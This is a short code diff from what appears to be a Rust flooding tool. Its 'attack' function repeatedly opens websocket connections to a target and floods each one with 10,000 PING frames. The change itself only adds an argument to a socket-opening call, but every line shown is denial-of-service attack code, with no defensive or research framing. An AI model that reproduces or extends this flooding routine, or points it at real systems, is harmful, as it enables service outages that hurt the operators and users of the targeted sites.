@@ -30,7 +30,7 @@ pub async fn attack(target: &'static Target) {
         tokio::spawn(again_and_again(move || {
             let first = first.clone();
             async move {
-                let stream = sockets::open(target, address(5, n, SOCKETS), "/connection/websocket").await?;
+                let stream = sockets::open(target, address(5, n, SOCKETS), "/connection/websocket", None).await?;
                 sockets::flood(stream, &first, &frame(PING, b"").repeat(10_000)).await
             }
         }));
